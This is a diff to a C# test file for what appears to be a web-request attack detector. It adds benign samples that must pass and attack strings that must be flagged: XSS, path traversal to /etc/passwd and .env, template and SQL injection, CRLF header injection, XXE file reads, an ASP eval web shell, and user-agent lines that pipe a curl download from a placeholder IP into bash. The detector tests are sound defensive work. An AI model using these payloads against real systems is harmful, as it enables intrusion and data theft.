@@ -1,3 +1,4 @@
+using Vedette.Engine.Signatures;
 using static Vedette.Engine.Tests.Signatures.InspectorFixture;
 
 namespace Vedette.Engine.Tests.Signatures;
@@ -32,6 +33,50 @@ public class HonestTextTests
     [InlineData(".items[] | select(.total > 3) | {id, name}")]
     public void TablesLinksMailsAndDocumentTypes(string value) => AssertPasses(value);
 
+    [Theory]
+    [InlineData("Subject: notes\nFrom: a@b.example\nTo: c@d.example\nBcc: e@f.example\n\nHello", false)]
+    [InlineData("> From: Anna <a@b.example>\n> To: c@d.example\n> Cc: e@f.example\n>\n> Hello", false)]
+    [InlineData("-----Original Message-----\nFrom: a@b.example\nTo: c@d.example", false)]
+    [InlineData("Hello\nBcc: e@f.example", true)]
+    [InlineData("a@b.example\r\nCc: e@f.example", true)]
+    public void AForwardedMailMayHoldHeaders(string value, bool expected) => Assert.Equal(expected, Request(body: "text=" + Uri.EscapeDataString(value)).IsAttack);
+
+    [Theory]
+    [InlineData(".garden {\n  color: #333;\n  font-weight: bold;\n}")]
+    [InlineData("commit 18517a55\nAuthor: Anna Lee <anna@b.example>\nDate:   Tue May 25 14:52:50 2010 -0300")]
+    [InlineData("version: 3\ndate: today\nchanges:")]
+    [InlineData("property: blue\n\nlocation:\n  name: garden")]
+    public void LinesOfDocumentsAreNoHeaders(string value) => AssertPasses(value);
+
+    [Theory]
+    [InlineData("<p>Moved to <a href=\"../../../garden/blue.html\">../../../garden/blue.html</a></p>")]
+    [InlineData("<meta http-equiv=\"refresh\" content=\"0; url=../../../core/fn.html\">")]
+    [InlineData("<p>Use &lt;script&gt; tags sparingly; put them at the end.</p>")]
+    [InlineData("<button onClick={() => setCount(count + 1)}>{count}</button>")]
+    [InlineData("<input value={title} onChange={this.props.onChange} onBlur={validate} />")]
+    [InlineData("a { background: url('data:image/svg+xml,<svg width=\"4\" height=\"4\"></svg>') }")]
+    [InlineData("\"<b>bold</b>\",plain,\"a & b\"")]
+    [InlineData("[`feceb77d7e`](https://host.example/commit/feceb77d7e) Read the docs")]
+    public void PartsOfPages(string value) => AssertPasses(value);
+
+    [Theory]
+    [InlineData("Just pipe it: cat access.log | grep 404 | sort | uniq -c | head")]
+    [InlineData("if [ -z \"$1\" ]; then\n  echo \"usage: $0 file\" >&2\n  exit 1\nfi")]
+    [InlineData("set -e\nREV=$(git rev-parse --short HEAD)\necho \"building $REV\"\nmake all")]
+    [InlineData("ALTER TABLE a ADD COLUMN b int;\nUPDATE a SET b = 4;\nALTER TABLE a ALTER COLUMN b SET NOT NULL;")]
+    [InlineData("DROP FUNCTION f(int);\nCREATE FUNCTION f(a int) RETURNS int")]
+    [InlineData("```bash\nnpm start\n```")]
+    public void Scripts(string value) => AssertPasses(value);
+
+    [Theory]
+    [InlineData("{{ config.site_title }} - {{ page.title }}")]
+    [InlineData("query List($where: garden_filter!, $limit: Int) { list(where: $where, limit: $limit) { id } }")]
+    [InlineData("<xi:include href=\"chapter1.xml\"/>")]
+    [InlineData("<!DOCTYPE target SYSTEM \"target.dtd\"><target/>")]
+    [InlineData("We saw requests for ../../etc/passwd in our logs, what does that mean?")]
+    [InlineData("/// See notes on operators. /// more")]
+    public void TemplatesQueriesAndDocuments(string value) => AssertPasses(value);
+
     [Fact]
     public void AVerbOfAProtocolIsNoCommand()
     {
@@ -57,6 +102,25 @@ public class HonestTextTests
     [InlineData("a@b.example\nBcc: victim@b.example")]
     [InlineData("<!DOCTYPE a PUBLIC \"-//W3C//A\" \"http://x.example/a.dtd\"><a/>")]
     [InlineData("']|//password|//a['")]
+    [InlineData("<p>a</p><iframe srcdoc=\"&lt;img src=x onerror=alert(1)&gt;\"></iframe>")]
+    [InlineData("<p>a</p><iframe SrcDoc=\"&lt;img src=x onerror=alert(1)&gt;\"></iframe>")]
+    [InlineData("<img src=x onerror={alert(1)}>")]
+    [InlineData("<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">")]
+    [InlineData("<a href=\"../../../../etc/passwd\">")]
+    [InlineData("{{config.items()}}")]
+    [InlineData("{{config.SECRET_KEY}}")]
+    [InlineData("blue\r\nSet-Cookie: a=b")]
+    [InlineData("blue\r\nX-Injected: yes")]
+    [InlineData("1; DROP TABLE users")]
+    [InlineData("1;\nDROP TABLE users")]
+    [InlineData("<xi:include parse=\"text\" href=\"file:///etc/passwd\"/>")]
+    [InlineData("<!DOCTYPE a SYSTEM \"http://x.example/a.dtd\"><a/>")]
+    [InlineData("../.env")]
+    [InlineData("| net user")]
+    [InlineData("; type %WINDIR%\\system32\\drivers\\etc\\hosts")]
+    [InlineData("'||this.user=='admin")]
+    [InlineData("')] | //password\0")]
+    [InlineData("<%eval request(\"pass\")%>")]
     public void AttacksBesideThem(string value) => Assert.True(Value(value).IsAttack, value);
 
     [Theory]
@@ -71,6 +135,23 @@ public class HonestTextTests
     {
         Assert.True(Query(query).IsAttack, query);
         Assert.True(Request(body: query).IsAttack, query);
+    }
+
+    [Theory]
+    [InlineData(";curl -s http://203.0.113.5/x|bash")]
+    [InlineData("&& cat /etc/passwd")]
+    [InlineData(" ;busybox wget http://203.0.113.5/x")]
+    public void AgentsThatBeginWithASeparator(string agent) => Assert.True(Request(agent: agent).IsAttack, agent);
+
+    [Fact]
+    public void WhatIsAllButCertainIsStillRanked()
+    {
+        float few = Value("1' or 1=1-- -").Score;
+        float many = Value("1' or 1=1 union select null,version(),user() from information_schema.tables;drop table users-- -").Score;
+        Assert.True(many > few);
+        Assert.True(many < 1);
+        Assert.Equal(0.5f, PayloadModel.Probability(0));
+        Assert.True(PayloadModel.Probability(20) > PayloadModel.Probability(19.9f));
     }
 
     [Fact]
